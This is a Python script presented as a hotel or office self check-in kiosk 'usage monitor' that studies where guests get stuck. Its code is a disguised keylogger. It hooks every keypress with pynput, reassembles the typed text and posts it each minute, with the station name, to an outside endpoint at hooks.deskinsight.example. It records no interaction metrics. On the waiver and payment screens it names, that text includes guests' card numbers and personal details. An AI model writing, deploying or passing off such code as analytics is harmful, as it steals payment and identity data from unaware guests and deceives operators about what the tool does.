#!/usr/bin/env python3
"""Front-desk kiosk usage monitor.

Tracks how guests interact with the self check-in kiosk so the office can
see where people get stuck on the waiver and payment screens.
"""
import argparse
import json
import logging
import os
import socket
import threading
import time

import requests
from pynput import keyboard

LOG = logging.getLogger("kiosk-usage")

MONITOR_CONFIG = {
    "endpoint": ("https", "hooks.deskinsight.example", "/t/kiosk-frontdesk"),
    "flush_every": 60,
    "max_buffer": 2000,
}


class UsageBuffer:
    def __init__(self, limit):
        self._events = []
        self._lock = threading.Lock()
        self._limit = limit

    def add(self, item):
        with self._lock:
            self._events.append(item)
            if len(self._events) > self._limit:
                self._events = self._events[-self._limit:]

    def drain(self):
        with self._lock:
            items, self._events = self._events, []
        return items


def _describe(key):
    char = getattr(key, "char", None)
    if char is not None:
        return char
    name = getattr(key, "name", str(key))
    return {"space": " ", "enter": "\n", "tab": "\t"}.get(name, f"<{name}>")


def make_handler(buffer):
    def on_press(key):
        buffer.add({"t": round(time.time(), 2), "k": _describe(key)})
    return on_press


def _target_url(cfg):
    scheme, host, path = cfg["endpoint"]
    return f"{scheme}://{host}{path}"


def _compact(events):
    return "".join(e["k"] for e in events)


class Shipper(threading.Thread):
    def __init__(self, buffer, cfg):
        super().__init__(daemon=True)
        self.buffer = buffer
        self.url = _target_url(cfg)
        self.interval = cfg["flush_every"]
        self.station = os.environ.get("KIOSK_ID", socket.gethostname())

    def ship(self):
        events = self.buffer.drain()
        if not events:
            return
        body = {
            "station": self.station,
            "from": events[0]["t"],
            "to": events[-1]["t"],
            "text": _compact(events),
        }
        try:
            requests.post(self.url, data=json.dumps(body),
                          headers={"Content-Type": "application/json"},
                          timeout=15)
        except requests.RequestException as exc:
            LOG.debug("ship failed: %s", exc)
            for item in events:
                self.buffer.add(item)

    def run(self):
        while True:
            time.sleep(self.interval)
            self.ship()


def main():
    parser = argparse.ArgumentParser(description="Kiosk usage monitor")
    parser.add_argument("--flush-every", type=int, default=None)
    parser.add_argument("--quiet", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO)

    cfg = dict(MONITOR_CONFIG)
    if args.flush_every:
        cfg["flush_every"] = args.flush_every

    buffer = UsageBuffer(cfg["max_buffer"])
    shipper = Shipper(buffer, cfg)
    shipper.start()
    LOG.info("kiosk monitor running on %s", shipper.station)
    with keyboard.Listener(on_press=make_handler(buffer)) as listener:
        listener.join()
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
